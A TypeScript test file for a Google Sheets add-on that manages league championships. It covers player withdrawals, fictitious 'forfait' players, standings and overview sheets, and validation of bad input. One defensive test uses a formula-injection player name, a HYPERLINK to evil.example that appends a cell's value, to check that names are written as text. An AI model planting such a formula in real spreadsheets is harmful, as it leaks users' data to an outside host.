/**
 * withdrawTorresPlayer and createTorresChampionship through the in-memory Sheets: the unplayed games go to the
 * next free fictitious player, played games keep the name, the standings and the overview list every row; a
 * fictitious player typed by hand makes the overview and readTorresOverview refuse loudly; bad input writes nothing.
 */
import { installFakeGas } from '../../../../test/helpers/fakeGas';
import { GROUP } from '../sheets/layout';
import { OVERVIEW } from '../sheets/overview';
import { createTorresChampionship, createTorresGroups, readTorresOverview, withdrawTorresPlayer } from './endpoints';
import { scheduledGames, seasonPoints, typePoints } from './testHelpers';

const names = (prefix: string, n: number): string[] => Array.from({ length: n }, (_, i) => `${prefix}${i + 1}`);
const C = OVERVIEW.columns;

function season() {
  const gas = installFakeGas();
  createTorresGroups({ title: 'S', groups: [names('A', 10), names('B', 10), names('C', 10), names('D', 10)], seed: 'w' });
  return { gas, l2: gas.book.sheet('S L2 G1'), overview: gas.book.sheet('S leagues') };
}

describe('withdrawTorresPlayer', () => {
  it('unplayed games to forfait, then Forfait bis; played games keep the name; the standings and the overview list every row', () => {
    const { gas, l2, overview } = season();
    const games = scheduledGames(l2, 15);
    const points = seasonPoints(games, 'p');
    typePoints(l2, points.slice(0, 5));
    const played = games.slice(0, 5).filter((g) => g.includes('B3')).length;
    expect(withdrawTorresPlayer({ sheet: 'S L2 G1', player: ' b3 ' })).toEqual({ replacedBy: 'forfait', games: 6 - played, played });
    const after = scheduledGames(l2, 15);
    after.forEach((g, i) => {
      if (i < 5) expect(g).toEqual(games[i]);
      else expect(g).toEqual(games[i].map((p) => (p === 'B3' ? 'forfait' : p)));
    });
    expect(String(l2.valueAt(GROUP.firstGameRow + 2, GROUP.statusColumn))).toMatch(/^withdrawn: \d unplayed game\(s\) to forfait/);
    expect(withdrawTorresPlayer({ sheet: 'S L2 G1', player: 'B7' }).replacedBy).toBe('Forfait bis');
    expect(() => withdrawTorresPlayer({ sheet: 'S L2 G1', player: 'B3' })).toThrow(/'B3' is already withdrawn/);
    typePoints(l2, seasonPoints(scheduledGames(l2, 15), 'q'));
    // 12 standings rows (10 players + 2 fictitious); the overview's block has 12 rows, its final order all 12
    const standings = Array.from({ length: 13 }, (_, i) => l2.valueAt(GROUP.firstGameRow + i, GROUP.standingsColumn + 1));
    expect(standings.filter((n) => n !== '')).toHaveLength(12);
    const first = OVERVIEW.firstRow + 10;
    const block = Array.from({ length: 12 }, (_, i) => overview.valueAt(first + i, C.final));
    expect(block).toEqual(standings.slice(0, 12));
    expect(overview.valueAt(first + 12, C.group)).toBe(2); // the next group follows, shifted down
    expect(block.filter((p) => /^forfait/i.test(String(p))).map((p) => overview.valueAt(first + block.indexOf(p), C.zone))).toEqual([
      'fictitious',
      'fictitious',
    ]);
    // zones among the real players: exactly 2 up and 4 down
    const zones = block.map((_, i) => overview.valueAt(first + i, C.zone));
    expect(zones.filter((z) => z === 'moves up')).toHaveLength(2);
    expect(zones.filter((z) => z === 'moves down')).toHaveLength(4);
    void gas;
  });

  it('a player withdrawn before any game stays in the standings (0 games) and the overview block is complete', () => {
    const { gas, l2, overview } = season();
    expect(withdrawTorresPlayer({ sheet: 'S L2 G1', player: 'B1' })).toEqual({ replacedBy: 'forfait', games: 6, played: 0 });
    typePoints(l2, seasonPoints(scheduledGames(l2, 15), 'r'));
    const rows = Array.from({ length: 11 }, (_, i) => [
      l2.valueAt(GROUP.firstGameRow + i, GROUP.standingsColumn + 1),
      l2.valueAt(GROUP.firstGameRow + i, GROUP.standingsColumn + 5),
    ]);
    expect(rows).toContainEqual(['B1', 0]);
    expect(rows.map((r) => r[0])).toContain('forfait');
    const block = Array.from({ length: 11 }, (_, i) => overview.valueAt(OVERVIEW.firstRow + 10 + i, C.final));
    expect(block).toEqual(rows.map((r) => r[0]));
    void gas;
  });

  it("keeps a colour rule the TD added, replacing only the add-on's zone rules", () => {
    season();
    const sheet = SpreadsheetApp.getActiveSpreadsheet().getSheetByName('S L2 G1')!;
    const own = SpreadsheetApp.newConditionalFormatRule()
      .whenFormulaSatisfied('=$A1="note"')
      .setBackground('#00ff00')
      .setRanges([sheet.getRange('A1:A3')]);
    const zonesBefore = sheet.getConditionalFormatRules().length;
    sheet.setConditionalFormatRules([...sheet.getConditionalFormatRules(), own.build()]);
    withdrawTorresPlayer({ sheet: 'S L2 G1', player: 'B2' });
    const after = sheet.getConditionalFormatRules();
    expect(after.filter((r) => r.getBooleanCondition()!.getCriteriaValues()[0] === '=$A1="note"')).toHaveLength(1);
    expect(after).toHaveLength(zonesBefore + 5); // the TD's rule, the zones again, the fictitious player's grey and the withdrawn player's three marks
  });

  it('bad input is refused and nothing is written', () => {
    const { l2 } = season();
    const before = l2.getDataRange().getValues();
    expect(() => withdrawTorresPlayer({ sheet: 'S L2 G1', player: 'Zed' })).toThrow(/'Zed' is not a player of "S L2 G1" \(players: B1, B2/);
    expect(() => withdrawTorresPlayer({ sheet: 'S L2 G1', player: 'forfait' })).toThrow(/fictitious player/);
    expect(() => withdrawTorresPlayer({ sheet: 'S leagues', player: 'A1' })).toThrow(/not a TORRES group sheet/);
    expect(() => withdrawTorresPlayer({ sheet: 'Nope', player: 'A1' })).toThrow(/no sheet named "Nope"/);
    expect(() => withdrawTorresPlayer({ sheet: '', player: '' } as never)).toThrow(/Sheet: give the group sheet[\s\S]*Player: give the name/);
    expect(l2.getDataRange().getValues()).toEqual(before);
  });

  it('a fictitious player typed by hand: the overview says so and reading it refuses, naming the group', () => {
    const { gas, l2, overview } = season();
    for (const name of ['S L1', 'S L2 G2', 'S L3']) typePoints(gas.book.sheet(name), seasonPoints(scheduledGames(gas.book.sheet(name), 15), name));
    const row = GROUP.firstGameRow + scheduledGames(l2, 15).findIndex((g) => g.includes('B5'));
    const seat = scheduledGames(l2, 15)[row - GROUP.firstGameRow].indexOf('B5');
    l2.getRange(row, GROUP.firstSeatColumn + 2 * seat).setValue('forfait');
    typePoints(l2, seasonPoints(scheduledGames(l2, 15), 'hand'));
    const first = OVERVIEW.firstRow + 10;
    expect(overview.valueAt(first, C.final)).toBe('');
    expect(String(overview.valueAt(first, C.results))).toMatch(/the standings list 11 players, this overview 10/);
    expect(() => readTorresOverview({ sheet: 'S leagues' })).toThrow(
      /League 2 group 1 \(sheet "S L2 G1"\): the standings list 11 players but the overview 10 \(fictitious: forfait — typed by hand\?\)/,
    );
  });
});

describe('withdrawTorresPlayer on a hostile sheet', () => {
  it('writes only the seats it hands over: a name like a formula or with a leading apostrophe stays text', () => {
    const gas = installFakeGas();
    const hostile = ['=HYPERLINK("http://evil.example/?"&A2,"x")', '=1+1', "'Tis", '007'];
    const players = [...hostile, ...names('B', 6)];
    createTorresGroups({ title: 'S', groups: [names('A', 10), players], seed: 'h' });
    const sheet = gas.book.sheet('S L2');
    const before = scheduledGames(sheet, 15);
    expect(before.flat().filter((n) => hostile.includes(n))).toHaveLength(4 * 6);
    withdrawTorresPlayer({ sheet: 'S L2', player: 'B1' });
    const after = scheduledGames(sheet, 15);
    expect(after).toEqual(before.map((g) => g.map((p) => (p === 'B1' ? 'forfait' : p))));
    const block = sheet
      .getRange(`A${GROUP.firstGameRow}:I${GROUP.firstGameRow + 14}`)
      .getFormulas()
      .flat();
    expect(block.filter((f) => f !== '')).toEqual([]);
    // The overview's block, rewritten with a row for forfait, lists the names as text too.
    const overview = gas.book.sheet('S leagues');
    const listed = Array.from({ length: 11 }, (_, i) => overview.valueAt(OVERVIEW.firstRow + 10 + i, C.listed));
    expect(listed).toEqual([...players, 'forfait']);
  });

  it("takes the number of games from the sheet's record, not from the game numbers a TD typed over", () => {
    const { l2 } = season();
    const games = scheduledGames(l2, 15);
    l2.getRange(GROUP.firstGameRow + 4, GROUP.gameColumn).setValue('postponed');
    const result = withdrawTorresPlayer({ sheet: 'S L2 G1', player: 'B4' });
    const scheduled = games.filter((g) => g.includes('B4')).length;
    expect(result).toEqual({ replacedBy: 'forfait', games: scheduled, played: 0 });
    expect(scheduledGames(l2, 15).flat()).not.toContain('B4');
  });
});

describe('createTorresChampionship', () => {
  const players = (n: number) => Array.from({ length: n }, (_, i) => ({ name: `p${i + 1}`, elo: 1900 - i }));

  it('ranks one Elo list into leagues and writes the overview and group sheets with every Elo', () => {
    const gas = installFakeGas();
    const r = createTorresChampionship({ title: 'C', players: players(45), seed: 'x' });
    expect(r.leagues.map((g) => [g.league, g.group, g.players.length])).toEqual([
      [1, 1, 10],
      [2, 1, 10],
      [2, 2, 10],
      [3, 1, 7],
      [3, 2, 8],
    ]);
    expect(r.sheets).toEqual(['C leagues', 'C L1', 'C L2 G1', 'C L2 G2', 'C L3 G1', 'C L3 G2']);
    expect(gas.book.sheet('C L3 G2').valueAt(GROUP.firstGameRow, GROUP.eloColumn + 1)).toBe(1900 - 31);
    const preview = createTorresChampionship({ title: 'C', players: players(45), seed: 'x', previewOnly: true });
    expect(preview).toEqual({ ...r, sheets: [] });
  });

  it('every problem at once, nothing written', () => {
    const gas = installFakeGas();
    const count = gas.book.getSheets().length;
    expect(() =>
      createTorresChampionship({
        title: '',
        players: [
          { name: 'a', elo: 1 },
          { name: 'A', elo: 2 },
          { name: 'forfait', elo: 3 },
          { name: 'b', elo: Number('x') },
          { name: '', elo: 5 },
        ],
        seed: 'x',
      }),
    ).toThrow(
      /title[\s\S]*'A' is listed twice \(lines 1 and 2\)[\s\S]*'forfait' is the name of a fictitious player[\s\S]*the Elo of 'b' is something that is not a number[\s\S]*line 5: no player name/,
    );
    expect(gas.book.getSheets().length).toBe(count);
  });
});
